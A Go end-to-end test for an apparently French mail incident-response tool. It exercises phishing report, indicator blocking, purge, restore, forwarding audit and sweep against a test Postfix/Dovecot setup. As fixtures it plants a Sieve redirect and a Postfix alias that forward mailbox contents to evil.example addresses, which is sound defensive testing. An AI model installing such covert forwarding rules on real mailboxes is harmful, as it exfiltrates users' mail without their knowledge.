package main

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"vigie.dev/vigie/internal/mailbox/mailboxtest"
	"vigie.dev/vigie/internal/mailbox/managesieve"
	"vigie.dev/vigie/internal/postfixtest"
	"vigie.dev/vigie/internal/store"
	"vigie.dev/vigie/internal/trace"
)

// The mailbox commands end to end: a Chorus Pro phish delivered by
// Postfix to two mailboxes of a real Dovecot, reported, its indicators
// blocked, then purged (refused without --yes, dry run, real run),
// restored, a planted Sieve redirect audited and disabled, the account
// swept — every step in the incident's journal and checklist.
func TestMailboxCommands(t *testing.T) {
	postfixtest.Require(t)
	alice, bob := "alice@chu-exemple.test", "bob@chu-exemple.test"
	d := mailboxtest.Start(t, alice, bob)
	smtpAddr := d.Postfix(t, "chu-exemple.test")
	raw, err := os.ReadFile("../../internal/engine/testdata/chorus-pro-phish.eml")
	if err != nil {
		t.Fatal(err)
	}
	const msgID = "<20240312081401.9F2C1E0123@srv4821.hosting-ovh-example.com>"
	d.DeliverVia(t, smtpAddr, "www-data@srv4821.hosting-ovh-example.com", []string{alice, bob}, msgID, raw)

	dir := t.TempDir()
	pass := filepath.Join(dir, "imap.pass")
	os.WriteFile(pass, []byte(mailboxtest.AdminPass+"\n"), 0o600)
	cfgPath := filepath.Join(dir, "vigie.yaml")
	cfg := "data_dir: " + dir + "\norg:\n  domains: [chu-exemple.test]\nmailbox:\n  imap:\n    address: " + d.IMAPAddr() +
		"\n    tls: none\n    admin: " + mailboxtest.Admin + "\n    password_file: " + pass + "\n    sieve: " + d.SieveAddr() +
		"\n    users_file: " + d.UsersFile() + "\n    forward_maps: [" + filepath.Join(dir, "virtual") + "]\n"
	// Forwarding an administrator (or an attacker with admin rights) set
	// in Postfix, outside Sieve.
	os.WriteFile(filepath.Join(dir, "virtual"), []byte("# virtual_alias_maps\n"+alice+"  "+alice+", archive-externe@evil.example\n"), 0o644)
	if err := os.WriteFile(cfgPath, []byte(cfg), 0o644); err != nil {
		t.Fatal(err)
	}
	t.Setenv(envStore, "")
	vigie := func(want int, args ...string) string {
		t.Helper()
		var out, errb bytes.Buffer
		args = append(args, "--config", cfgPath, "--by", "rssi")
		if code := run(context.Background(), args, &out, &errb); code != want {
			t.Fatalf("vigie %s: exit %d, want %d\n%s%s", strings.Join(args, " "), code, want, out.String(), errb.String())
		}
		return out.String() + errb.String()
	}
	vigie(0, "incident", "open", "--type", "phishing-campaign", "--title", "Chorus Pro")
	vigie(0, "incident", "add-evidence", "1", "../../internal/engine/testdata/chorus-pro-phish.eml")
	// What the gateway wrote when it let the message through.
	db, err := store.Open(context.Background(), "sqlite:"+filepath.Join(dir, "vigie.db"), nil)
	if err != nil {
		t.Fatal(err)
	}
	tl := trace.Open(db.Trace(), nil)
	tl.Add(trace.Record{At: time.Now().UTC(), Frontend: "milter", MailFrom: "www-data@srv4821.hosting-ovh-example.com",
		RcptTo: []string{alice, bob}, From: "notification-choruspro-fr@abatos.fr", Subject: "Facture en attente",
		MessageID: strings.Trim(msgID, "<>"), Action: "tag", URLs: []string{"https://chorus-pro-factures.weebly.com/consulter?id=88213"}})
	tl.Close()
	db.Close()

	// Blocking the indicators with --zap pulls the copies out at once.
	before := d.Snapshot(t, alice)
	out := vigie(0, "incident", "block", "1", "--all", "--zap")
	if !strings.Contains(out, "--zap") || !strings.Contains(out, "2 copie(s) déplacée(s)") {
		t.Fatalf("block --zap:\n%s", out)
	}
	if after := d.Snapshot(t, bob); len(after["Quarantaine Vigie"]) != 1 {
		t.Fatalf("zap did not move bob's copy: %v", after)
	}
	vigie(0, "mailbox", "restore", "--incident", "1", "--yes")
	if after := d.Snapshot(t, alice); len(diff(before, after)) != 0 {
		t.Fatalf("not restored after zap: %v", diff(before, after))
	}

	out = vigie(2, "mailbox", "purge", "--incident", "1")
	if !strings.Contains(out, "2 copie(s) dans 2 boîte(s)") || !strings.Contains(out, "--yes") {
		t.Fatalf("purge without --yes:\n%s", out)
	}
	out = vigie(0, "mailbox", "purge", "--incident", "1", "--dry-run")
	if !strings.Contains(out, "2 copie(s) à déplacer (simulation)") {
		t.Fatalf("dry run:\n%s", out)
	}
	if len(diff(before, d.Snapshot(t, alice))) != 0 {
		t.Fatal("the dry run moved something")
	}
	out = vigie(0, "mailbox", "purge", "--incident", "1", "--yes", "--lang", "en")
	if !strings.Contains(out, "2 copies moved") {
		t.Fatalf("purge:\n%s", out)
	}
	if after := d.Snapshot(t, alice); len(after["Quarantaine Vigie"]) != 1 || len(after["INBOX"]) != len(before["INBOX"])-1 {
		t.Fatalf("not moved: %v", after)
	}
	out = vigie(0, "mailbox", "ledger", "--incident", "1")
	if strings.Count(out, "purge") < 4 || !strings.Contains(out, "restored") || !strings.Contains(out, "INBOX → Quarantaine Vigie") {
		t.Errorf("ledger:\n%s", out)
	}
	out = vigie(0, "incident", "checklist", "1", "--all")
	if !strings.Contains(out, "C.9") || !strings.Contains(out, "fait") {
		t.Errorf("checklist:\n%s", out)
	}
	vigie(0, "mailbox", "restore", "--incident", "1", "--yes")
	if after := d.Snapshot(t, alice); len(diff(before, after)) != 0 || len(after["Quarantaine Vigie"]) != 0 {
		t.Fatalf("not restored: %v", diff(before, after))
	}

	ms, err := managesieve.Dial(context.Background(), d.SieveAddr(), managesieve.Options{})
	if err != nil {
		t.Fatal(err)
	}
	ms.AuthenticatePlain("", bob, mailboxtest.UserPass)
	ms.PutScript("webmail", "require \"copy\";\nredirect :copy \"relais@evil.example\";\n")
	ms.SetActive("webmail")
	ms.Logout()
	out = vigie(0, "mailbox", "audit", "--all", "--incident", "1")
	if !strings.Contains(out, "MAILBOX_FORWARD_EXTERNAL sieve:webmail#1") || !strings.Contains(out, "[élevée]") ||
		!strings.Contains(out, "MAILBOX_FORWARD_EXTERNAL postfix-map:") || !strings.Contains(out, "archive-externe@evil.example") {
		t.Fatalf("audit:\n%s", out)
	}
	out = vigie(0, "mailbox", "audit", bob, "--lang", "en")
	if !strings.Contains(out, "[high] MAILBOX_FORWARD_EXTERNAL") || !strings.Contains(out, "Automatic forwarding outside: relais@evil.example") {
		t.Fatalf("audit --lang en:\n%s", out)
	}
	out = vigie(0, "mailbox", "audit", bob, "--incident", "1", "--fix", "sieve:webmail#1")
	if !strings.Contains(out, "0 constat(s)") || !strings.Contains(out, "règle 1 désactivée") {
		t.Fatalf("fix:\n%s", out)
	}
	// The Postfix forwarding cannot be disabled by Vigie: selected, it is
	// left as it is, said and journaled, its definition in the evidence.
	virtual := filepath.Join(dir, "virtual")
	mapBefore, _ := os.ReadFile(virtual)
	out = vigie(0, "mailbox", "audit", alice, "--incident", "1", "--fix", "postfix-map:"+virtual)
	if !strings.Contains(out, "Non désactivable par Vigie (redirection dans une table Postfix") || !strings.Contains(out, "laissé en place") ||
		!strings.Contains(out, "définition gardée dans les preuves de l'incident (sha256 ") {
		t.Fatalf("fix of a Postfix map:\n%s", out)
	}
	if mapAfter, _ := os.ReadFile(virtual); !bytes.Equal(mapBefore, mapAfter) {
		t.Errorf("the Postfix map was changed:\n%s", mapAfter)
	}
	if out = vigie(0, "mailbox", "ledger", "--incident", "1"); !strings.Contains(out, "manual") {
		t.Errorf("ledger without the rule left to a person:\n%s", out)
	}
	if out = vigie(0, "incident", "show", "1"); !strings.Contains(out, "regle-alice@chu-exemple.test-postfix-map") ||
		!strings.Contains(out, "laissée en place") {
		t.Errorf("incident without the kept definition or the decision:\n%s", out)
	}
	out = vigie(0, "mailbox", "sweep", alice, "--since", "7d", "--incident", "1", "--inbox", "--evidence")
	if !strings.Contains(out, "SWEEP_INDICATOR_MATCH") || !strings.Contains(out, "SWEEP_PHISHING_VERDICT") || !strings.Contains(out, "preuve de l'incident 1") {
		t.Fatalf("sweep:\n%s", out)
	}
	out = vigie(0, "incident", "show", "1")
	for _, want := range []string{"Purge : boîte " + alice, "Restauration : boîte " + alice, "Audit de la boîte " + bob, "Examen de la boîte " + alice} {
		if !strings.Contains(out, want) {
			t.Errorf("journal lacks %q", want)
		}
	}
	vigie(0, "incident", "verify", "1")
}

func diff(a, b map[string][]string) []string {
	var out []string
	seen := map[string]bool{}
	for _, m := range []map[string][]string{a, b} {
		for k := range m {
			if !seen[k] && strings.Join(a[k], ",") != strings.Join(b[k], ",") {
				out = append(out, k)
			}
			seen[k] = true
		}
	}
	return out
}
